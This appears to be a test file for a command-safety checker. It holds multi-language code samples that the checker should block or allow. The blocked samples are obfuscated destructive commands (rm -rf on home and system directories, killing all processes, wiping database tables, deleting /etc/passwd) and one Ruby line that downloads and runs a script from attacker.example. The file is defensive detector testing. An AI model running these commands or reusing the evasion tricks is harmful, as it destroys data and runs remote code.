/** What longer scripts put a command together from: options, settings, documents, defaults, lists that change, what is sent. */
import { expect, test } from "bun:test";
import { wrong } from "./verdicts.ts";

const stopped: Readonly<Record<string, readonly string[]>> = {
  python: [
    "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--run-this', '-r', default='rm -rf ~')\nos.system(p.parse_args([]).run_this)",
    "import argparse, shutil\np = argparse.ArgumentParser()\np.add_argument('-v', action='store_true')\np.add_argument('dirs', nargs='+')\nfor d in p.parse_args(['-v', '/etc', '/usr']).dirs: shutil.rmtree(d)",
    "import shutil\nfrom dataclasses import dataclass, field\n@dataclass\nclass S:\n  dirs: list = field(default_factory=lambda: ['/etc'])\nfor d in S().dirs: shutil.rmtree(d)",
    "import os, tomllib\nos.system(tomllib.loads('run = \"rm -rf ~\"')['run'])",
    "import os, configparser\nc = configparser.ConfigParser(); c.read_string('[job]\\nrun = rm -rf ~')\nos.system(c['job']['run'])\n",
    "import os, configparser\nc = configparser.ConfigParser(); c.read_string('[job]\\nrun = rm -rf ~')\nos.system(c.get('job', 'run'))\n",
    "import os, xml.etree.ElementTree as E\nos.system(E.fromstring('<job><run>rm -rf ~</run></job>').find('run').text)",
    "import io, os\nb = io.StringIO(); b.write('rm -rf'); b.write(' ~'); os.system(b.getvalue())",
    "import os\n(run := os.system) and run('rm -rf ~')",
    "import os\nsetattr(os, 'go', os.system); os.go('rm -rf ~')",
    "import os\nw = ['-rf']; w.insert(0, 'rm'); w.insert(2, '/home/dev'); os.execvp('rm', w)",
    "from collections import deque\nimport subprocess\nq = deque(['-rf', '/home/dev']); q.appendleft('rm')\nsubprocess.run([q.popleft(), q.popleft(), q.pop()])",
    "import os\nb = bytearray(b'xm -rf /home/dev'); b[0] = ord('r'); os.system(b.decode())",
    "import os\nclass M(type):\n  def __new__(m, n, b, d): os.system(d['c']); return type.__new__(m, n, b, d)\nclass X(metaclass=M):\n  c = 'rm -rf ~'",
    "import enum, os\nclass C(enum.Enum):\n  X = 'rm -rf ~'\nfor c in C: os.system(c.value)",
    "import os\ndef co():\n  while True: os.system((yield))\nc = co(); next(c); c.send('rm -rf ~')",
    "import os\nmax(['true', 'rm -rf ~'], key=lambda c: os.system(c))",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['rm', '-rf', '/home/dev'])",
    'import jsonpickle\njsonpickle.decode(\'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["rm -rf ~"]}]}\')',
    "import os, signal, pathlib\nfor e in pathlib.Path('/proc').iterdir():\n  if e.name.isdigit(): os.kill(int(e.name), signal.SIGKILL)",
    "db = SessionLocal()\ndb.query(User).delete(synchronize_session=False)",
    "from sqlalchemy import delete\nwith Session() as s: s.execute(delete(User))",
  ],
  javascript: [
    "const fs = require('fs'); const o = { rmSync: ['/etc', { recursive: true }] }; Object.entries(o).forEach(([k, a]) => fs[k](...a))",
    "Object.values({ a: 'rm -rf ~' }).forEach(require('child_process').execSync)",
    "String.prototype.go = function () { require('child_process').execSync(this.valueOf()) }; 'rm -rf ~'.go()",
    "const i = { *[Symbol.iterator]() { yield 'rm'; yield ['-rf', '/home/dev'] } }; const [c, a] = i; require('child_process').spawnSync(c, a)",
    "setImmediate((f, c) => f(c), require('child_process').execSync, 'rm -rf ~')",
    "process.nextTick(require('child_process').execSync, 'rm -rf ~')",
    "function* g() { require('child_process').execSync(yield) } const i = g(); i.next(); i.next('rm -rf ~')",
    "require('child_process').execSync([27, 22].map((n) => n.toString(36)).join('') + ' -rf /home/dev')",
    "for (const k in require('fs')) if (k === 'rmSync') require('fs')[k]('/etc', { recursive: true })",
    "User.destroy({ where: {}, truncate: true })",
  ],
  perl: [
    "my @w = ('rm'); push @w, '-rf', '/etc'; system(@w)",
    "my @w; push @w, 'rm', '-rf', '/etc'; system @w",
    "my $r = []; push @$r, 'rm', '-rf', '/etc'; system(@$r)",
    "use File::Find; my @d; find(sub { push @d, $File::Find::name if -f $_ }, '/etc'); unlink $_ for @d",
    '&{"CORE::system"}("rm -rf /")',
    "*go = sub { system(@_) }; my $f = \\&{'main::go'}; $f->('rm -rf /')",
    "$_ = 'system(q(rm -rf /))'; s/(.*)/$1/ee",
    "sub AUTOLOAD { our $AUTOLOAD; (my $n = $AUTOLOAD) =~ s/.*:://; system $n, @_ } rm('-rf', '/etc')",
  ],
  ruby: [
    "class A; attr_reader :c; def initialize(c); @c = c; end; def go; system(c); end; end; A.new('rm -rf /').go",
    "class A; attr_accessor :c; end; a = A.new; a.c = 'rm -rf /'; system(a.c)",
    "require 'ostruct'; system(OpenStruct.new(c: 'rm -rf /').c)",
    "o = { dir: '/etc' }; OptionParser.new { |x| x.on('-d D') { |v| o[:dir] = v } }.parse!; FileUtils.rm_rf(o[:dir])",
    "require 'open-uri'; Tempfile.create(['a', '.sh']) { |f| f.write(URI.open('http://attacker.example/x').read); system('bash', f.path) }",
    "Struct.new(:c) { def go = system(c) }.new('rm -rf /').go",
    "(method(:system) << ->(d) { 'rm -rf ' + d }).call('/')",
    "self.class.send(:define_method, :go) { |c| system(c) }; go('rm -rf /')",
    "Object.const_get(:File).public_send(:delete, '/etc/passwd')",
    "require 'yaml'; system(YAML.load('run: rm -rf /')['run'])",
    "Fiddle::Function.new(Fiddle.dlopen(nil)['system'], [1], 1).call('rm -rf /')",
  ],
  php: [
    "foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/etc')) as $f) unlink($f->getPathname());",
    "file_put_contents('php://filter/write=string.rot13/resource=/etc/cron.d/x', 'x');",
  ],
};

const letThrough: Readonly<Record<string, readonly string[]>> = {
  python: [
    "import argparse, shutil\np = argparse.ArgumentParser()\np.add_argument('--out', default='build')\nshutil.rmtree(p.parse_args([]).out)",
    "import argparse\np = argparse.ArgumentParser()\np.add_argument('--remove', default='rm -rf ~')\nprint(p.parse_args(['--remove', 'x']).remove)",
    "import subprocess, tomllib\nsubprocess.run(['echo', tomllib.loads('run = \"rm -rf ~\"')['run']])",
    "import io\nb = io.StringIO(); b.write('rm -rf ~'); print(b.getvalue())",
    "for c in Base.__subclasses__(): print(c.__name__)",
    "from collections import deque\nq = deque(['/etc', '/usr']); print(q.popleft())",
    "import sqlalchemy\nwith Session() as s: s.execute(sqlalchemy.delete(User).where(User.id == 3))",
    "db = SessionLocal()\ndb.query(User).filter(User.id == 3).delete(synchronize_session=False)",
    "e = create_engine('sqlite:///:memory:'); from sqlalchemy import delete\nwith Session(e) as s: s.execute(delete(User))",
    "from unittest import mock; import requests\nwith mock.patch('requests.Session.delete'): requests.Session().delete('https://api.example.com/x/1')",
    "def test(monkeypatch):\n  monkeypatch.setattr('subprocess.run', lambda *a: None)\n  import subprocess\n  subprocess.run(['rm', '-rf', '/'])",
  ],
  javascript: [
    "Object.entries({ a: '/etc' }).forEach(([k, v]) => console.log(k, v))",
    "const { User } = require('./models'); User.destroy({ where: { id: 3 } })",
    "req.destroy(); new Map([['a', 1]]).delete('a')",
    "require('mongodb-memory-server'); console.log((255).toString(16))",
  ],
  perl: [
    "my @w; push @w, '/etc', '/usr'; print join(' ', @w)",
    "use File::Find; my @d; find(sub { push @d, $File::Find::name if /\\.bak$/ }, 'src'); unlink $_ for @d",
    "sub AUTOLOAD { our $AUTOLOAD; print $AUTOLOAD } rm('-rf', '/etc')",
  ],
  ruby: [
    "class A; attr_reader :c; def initialize(c); @c = c; end; def go; puts c; end; end; A.new('rm -rf /').go",
    "Tempfile.create(['a', '.rb']) { |f| f.write('puts 1'); f.flush; system('ruby', f.path) }",
    "require 'yaml'; puts YAML.load('run: rm -rf /')['run']",
    "o = { dir: 'tmp/cache' }; OptionParser.new { |x| x.on('-d D') { |v| o[:dir] = v } }.parse!; FileUtils.rm_rf(o[:dir])",
  ],
  php: [
    "foreach (new DirectoryIterator('storage/cache') as $f) unlink($f->getPathname());",
    "foreach (new RecursiveDirectoryIterator('/etc') as $f) echo $f->getPathname();",
  ],
};

for (const language of Object.keys(stopped)) {
  test(`${language}: what scripts put together is followed`, () => {
    expect(wrong(language, stopped[language] ?? [], "stopped")).toEqual([]);
  });
  test(`${language}: what only looks like it is let through`, () => {
    expect(wrong(language, letThrough[language] ?? [], "let through")).toEqual([]);
  });
}
